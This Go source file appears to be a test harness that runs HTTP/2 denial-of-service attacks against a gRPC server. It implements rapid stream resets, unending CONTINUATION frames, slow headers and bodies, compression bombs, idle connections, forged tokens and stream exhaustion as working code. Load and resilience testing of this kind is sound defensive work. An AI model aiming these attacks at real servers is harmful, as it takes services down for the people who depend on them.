// Package attack does to a server what strangers do to take it from others, for tests. Each
// attack goes on over HTTP/2 without TLS until its context ends.
//
//	var progress attack.Progress
//	attack.Target{Addr: addr, Path: "/acme.v1.Library/Get", Tokens: tokens}.Run(ctx, attack.Resets, &progress)
package attack

import (
	"bytes"
	"context"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A Target is what is attacked.
type Target struct {
	// Addr is the port, and Path a method of gRPC: a unary one, or for Streams one of a server's
	// stream.
	Addr, Path string
	// From is the IP address that connections come from, or empty for any.
	From string
	// Tokens are what the caller has: of as many subjects as it can.
	Tokens []string
	// Forged is a token whose signature does not match.
	Forged string
	// Bomb is a compressed message that is far too large.
	Bomb []byte
}

// An Attack is that of a caller, on several connections. It returns when its connection, or the context, has ended.
type Attack struct {
	Name     string
	callers  int   // at once
	underWay int64 // how much it has sent then
	run      func(context.Context, Target, *Progress) error
}

// The attacks.
var (
	Resets        = Attack{"resets", 2, 1000, resets}
	Continuations = Attack{"CONTINUATION without end", 2, 100, continuations}
	SlowHeaders   = Attack{"slow headers", 200, 400, slowHeaders}
	SlowBodies    = Attack{"slow bodies", 8, 1600, slowBodies}
	Bombs         = Attack{"compression bombs", 2, 10, calls(Target.bomb)}
	Silent        = Attack{"silent connections", 200, 200, silent}
	Forged        = Attack{"forged tokens", 2, 1000, calls(Target.forged)}
	ManySubjects  = Attack{"many subjects", 2, 1000, calls(Target.subjects)}
)

// All returns every attack.
func All() []Attack {
	return []Attack{Resets, Continuations, SlowHeaders, SlowBodies, Bombs, Silent, Forged, ManySubjects}
}

const streamsOfConn = 200

// Streams holds open many streams, a multiple of 200, each with the next of the tokens.
func Streams(n int) Attack { return Attack{"streams", n / streamsOfConn, int64(n), streams} }

// Progress is what an attack has done so far, and what the server has made of it. The zero
// value is nothing. It is safe for concurrent use.
type Progress struct {
	sent, opened, connections, closed atomic.Int64

	mu      sync.Mutex
	answers map[string]int64
}

// UnderWay reports whether the attack has sent as much as it takes to be one.
func (p *Progress) UnderWay(a Attack) bool { return p.Sent() >= a.underWay }

// Sent returns how many frames the attack has sent that do harm, or how many connections it
// has made that are silent.
func (p *Progress) Sent() int64 { return p.sent.Load() }

// Connections returns how many connections the attack has made.
func (p *Progress) Connections() int64 { return p.connections.Load() }

// Closed returns how many of them the server has closed.
func (p *Progress) Closed() int64 { return p.closed.Load() }

// Answers returns how many calls have ended with a status of gRPC, such as "16".
func (p *Progress) Answers(status string) int64 {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.answers[status]
}

func (p *Progress) answered(status string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.answers == nil {
		p.answers = make(map[string]int64)
	}
	p.answers[status]++
}

// Run attacks until ctx ends. Callers whose connection was closed connect again, two hundred
// times a second in all.
func (t Target) Run(ctx context.Context, a Attack, p *Progress) {
	var callers sync.WaitGroup
	for range a.callers {
		callers.Go(func() {
			for ctx.Err() == nil {
				if a.run(ctx, t, p) != nil {
					pause(ctx, time.Duration(a.callers)*time.Second/200)
				}
			}
		})
	}
	callers.Wait()
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// A conn is a connection whose caller keeps to no rules.
type conn struct {
	net.Conn
	*http2.Framer

	path    string
	next    uint32 // stream
	block   bytes.Buffer
	encoder *hpack.Encoder
	began   atomic.Int64 // streams that the server has answered
	answers atomic.Int64 // streams that the server has ended
}

func connect(ctx context.Context, t Target, p *Progress) (net.Conn, error) {
	dialer := new(net.Dialer)
	if t.From != "" {
		dialer.LocalAddr = &net.TCPAddr{IP: net.ParseIP(t.From)}
	}
	raw, err := dialer.DialContext(ctx, "tcp", t.Addr)
	if err == nil {
		p.connections.Add(1)
	}
	return raw, err
}

// dial connects, and reads what comes until the connection ends.
func dial(ctx context.Context, t Target, p *Progress) (*conn, error) {
	raw, err := connect(ctx, t, p)
	if err != nil {
		return nil, err
	}
	stop := context.AfterFunc(ctx, func() { _ = raw.Close() })
	c, err := newConn(raw, t.Path)
	go func() {
		defer stop()
		c.drain(p)
		if ctx.Err() == nil {
			p.closed.Add(1)
		}
	}()
	return c, err
}

// window is how much the server may send before the caller takes it.
const window = 1 << 30

func newConn(raw net.Conn, path string) (*conn, error) {
	c := &conn{Conn: raw, Framer: http2.NewFramer(raw, raw), path: path, next: 1}
	c.encoder = hpack.NewEncoder(&c.block)
	c.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	_, err := io.WriteString(raw, http2.ClientPreface)
	if err == nil {
		err = c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	}
	if err == nil {
		err = c.WriteWindowUpdate(0, window)
	}
	return c, err
}

func (c *conn) drain(p *Progress) {
	for {
		frame, err := c.ReadFrame()
		if err != nil {
			_ = c.Close()
			return
		}
		switch f := frame.(type) {
		case *http2.RSTStreamFrame:
			c.answers.Add(1)
		case *http2.MetaHeadersFrame:
			c.began.Add(1)
			if !f.StreamEnded() {
				continue
			}
			c.answers.Add(1)
			for _, header := range f.Fields {
				if header.Name == "grpc-status" {
					p.answered(header.Value)
				}
			}
		}
	}
}

// open sends the headers of a call, and returns its stream.
func (c *conn) open(token, encoding string, endHeaders bool) (uint32, error) {
	c.block.Reset()
	for _, h := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", c.path}, {":authority", "localhost"},
		{"content-type", "application/grpc"}, {"te", "trailers"}, {"authorization", "Bearer " + token}, {"grpc-encoding", encoding},
	} {
		if h[1] != "" {
			_ = c.encoder.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) // into memory
		}
	}
	stream := c.next
	c.next += 2
	return stream, c.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: c.block.Bytes(), EndHeaders: endHeaders})
}

// resets opens calls, and takes each back at once.
func resets(ctx context.Context, t Target, p *Progress) error {
	c, err := dial(ctx, t, p)
	for err == nil {
		var stream uint32
		if stream, err = c.open(t.Tokens[0], "", true); err == nil {
			err = c.WriteRSTStream(stream, http2.ErrCodeCancel)
			p.sent.Add(1)
		}
	}
	return err
}

func continuations(ctx context.Context, t Target, p *Progress) error {
	c, err := dial(ctx, t, p)
	if err != nil {
		return err
	}
	stream, err := c.open(t.Tokens[0], "", false)
	for err == nil {
		c.block.Reset()
		_ = c.encoder.WriteField(hpack.HeaderField{Name: "x-more", Value: string(bytes.Repeat([]byte("x"), 8000))})
		err = c.WriteContinuation(stream, false, c.block.Bytes())
		p.sent.Add(1)
	}
	return err
}

// drip sends a byte every now and then.
const drip = 100 * time.Millisecond

func slowHeaders(ctx context.Context, t Target, p *Progress) error {
	c, err := dial(ctx, t, p)
	if err != nil {
		return err
	}
	stream, err := c.open(t.Tokens[0], "", false)
	for err == nil {
		pause(ctx, drip)
		err = c.WriteContinuation(stream, false, nil)
		p.sent.Add(1)
	}
	return err
}

func slowBodies(ctx context.Context, t Target, p *Progress) error {
	c, err := dial(ctx, t, p)
	var streams []uint32
	for err == nil && len(streams) < 200 {
		var stream uint32
		stream, err = c.open(t.Tokens[0], "", true)
		streams = append(streams, stream)
		p.sent.Add(1)
	}
	for err == nil {
		pause(ctx, drip)
		for _, stream := range streams[:20] {
			if err == nil {
				err = c.WriteData(stream, false, []byte{0})
				p.sent.Add(1)
			}
		}
	}
	return err
}

func silent(ctx context.Context, t Target, p *Progress) error {
	raw, err := connect(ctx, t, p)
	if err != nil {
		return err
	}
	stop := context.AfterFunc(ctx, func() { _ = raw.Close() })
	defer stop()
	p.sent.Add(1)
	_, err = io.Copy(io.Discard, raw)
	_ = raw.Close()
	if ctx.Err() == nil {
		p.closed.Add(1)
	}
	return err
}

// streams opens as many as a connection may have, and reads what comes.
func streams(ctx context.Context, t Target, p *Progress) error {
	c, err := dial(ctx, t, p)
	for n := range int64(streamsOfConn) {
		var stream uint32
		if err == nil {
			next := p.opened.Add(1) - 1
			stream, err = c.open(t.Tokens[next%int64(len(t.Tokens))], "", true)
		}
		if err == nil {
			err = c.WriteData(stream, true, empty)
		}
		for err == nil && c.began.Load() <= n && ctx.Err() == nil {
			pause(ctx, time.Millisecond)
		}
		p.sent.Add(1)
	}
	if err != nil {
		return err
	}
	<-ctx.Done()
	return ctx.Err()
}

// A request is what a caller sends: a token, and a message with its encoding.
type request struct {
	token, encoding string
	message         []byte
}

var empty = []byte{0, 0, 0, 0, 0} // an envelope of gRPC without a message

func (t Target) bomb(int) request       { return request{t.Tokens[0], "gzip", t.Bomb} }
func (t Target) forged(int) request     { return request{t.Forged, "", empty} }
func (t Target) subjects(n int) request { return request{t.Tokens[n%len(t.Tokens)], "", empty} }

// maxUnread is how much the caller may send that the server has not read: less than what
// every server takes (RFC 9113, section 6.9.2).
const maxUnread = 500

// calls returns an attack by calls that are sent whole, a hundred at once if they are small.
func calls(of func(Target, int) request) func(context.Context, Target, *Progress) error {
	return func(ctx context.Context, t Target, p *Progress) error {
		c, err := dial(ctx, t, p)
		for sent := int64(0); err == nil; {
			r := of(t, int(sent))
			if atOnce := max(1, maxUnread/len(r.message)); sent-c.answers.Load() >= int64(atOnce) {
				pause(ctx, time.Millisecond)
				if ctx.Err() != nil {
					return ctx.Err()
				}
				continue
			}
			var stream uint32
			if stream, err = c.open(r.token, r.encoding, true); err != nil {
				break
			}
			for rest := r.message; err == nil && len(rest) > 0; {
				part := rest[:min(len(rest), 1<<14)]
				rest = rest[len(part):]
				err = c.WriteData(stream, len(rest) == 0, part)
			}
			sent++
			p.sent.Add(1)
		}
		return err
	}
}

// Said is what a server has said when it closed a connection.
type Said struct {
	ErrCode http2.ErrCode
	Debug   string
}

// ResetUntilClosed opens and resets calls on a connection until the server has closed it, or
// most have been. It returns what the server said, and how many calls there were.
func ResetUntilClosed(raw net.Conn, path, token string, most int) (said Said, sent int) {
	c, err := newConn(raw, path)
	read := make(chan Said, 1)
	go func() {
		var last Said
		for {
			frame, err := c.ReadFrame()
			if err != nil {
				read <- last
				return
			}
			if f, ok := frame.(*http2.GoAwayFrame); ok {
				last = Said{f.ErrCode, string(f.DebugData())}
			}
		}
	}()
	for err == nil && sent < most {
		var stream uint32
		if stream, err = c.open(token, "", true); err == nil {
			err = c.WriteRSTStream(stream, http2.ErrCodeCancel)
			sent++
		}
	}
	if err == nil {
		_ = raw.Close()
	}
	return <-read, sent
}
